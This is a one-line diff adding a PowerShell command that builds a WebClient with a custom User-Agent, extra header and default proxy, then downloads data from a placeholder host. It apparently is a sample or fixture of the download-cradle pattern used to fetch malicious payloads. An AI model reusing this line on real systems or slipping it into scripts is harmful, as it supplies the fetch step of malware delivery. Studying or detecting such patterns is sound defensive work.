@@ -1,0 +1,1 @@
+$w=New-Object Net.WebClient;$w.Headers.Add('User-Agent','zz/1');$w.Headers['X']='y';$w.Proxy=[Net.WebRequest]::DefaultWebProxy;$w.DownloadData('http://a.example/x')
